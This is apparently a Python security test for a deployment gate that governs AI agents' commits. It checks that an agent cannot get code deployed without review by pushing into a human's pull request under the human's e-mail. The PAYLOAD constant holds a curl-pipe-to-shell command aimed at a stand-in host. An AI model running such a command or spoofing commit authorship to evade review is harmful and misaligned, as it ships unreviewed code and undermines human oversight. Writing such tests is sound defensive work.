"""Invariant 10 (and the deployment gate's "reviewed provenance"): identity comes from who
acted, never from commit e-mails.

The merge gate now knows who pushed each commit; the deployment gate still judges a
commit's provenance by the author and committer written into the commits, which the
agent chooses. The agent pushes a payload into a human's pull request under the human's
e-mail; the merge gate blocks it (the bot pushed it), but a preview deployment of that
branch, started by a human, is approved at once as "no agent involvement".
"""

from __future__ import annotations

from tests.attacks.harness import AUTHOR, MAINTAINER, REPO, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def test_a_commit_the_agent_pushed_under_a_humans_email_is_not_deployed_unreviewed(
    attack: Attack,
):
    number = attack.sim.open_pull_request(
        REPO, author=AUTHOR, head_ref="docs", files={"README.md": "# widgets\n"}
    )
    assert attack.check(number).conclusion == "success"  # a human's work: no gate needed
    agent = attack.agent("agent:acme/fixer", "alice")
    sha = agent.commit("docs", "src/app.py", PAYLOAD, email=f"{AUTHOR}@users.noreply.github.com")
    assert attack.head(number) == sha
    # The merge gate knows the bot pushed it.
    assert attack.check(number).conclusion == "action_required"

    # A maintainer deploys the branch to staging (a preview): the payload would ship.
    _deployment, run_id = attack.sim.request_deployment(
        REPO, environment="staging", creator=MAINTAINER, ref="docs"
    )
    gate = attack.sim.deployment_gate(run_id, "staging")
    assert gate != "approved", (
        f"the deployment of {sha[:7]}, pushed by {attack.bot} and never approved, was "
        f"approved: {[r.comment for r in attack.sim.deployment_reviews(run_id)]}"
    )
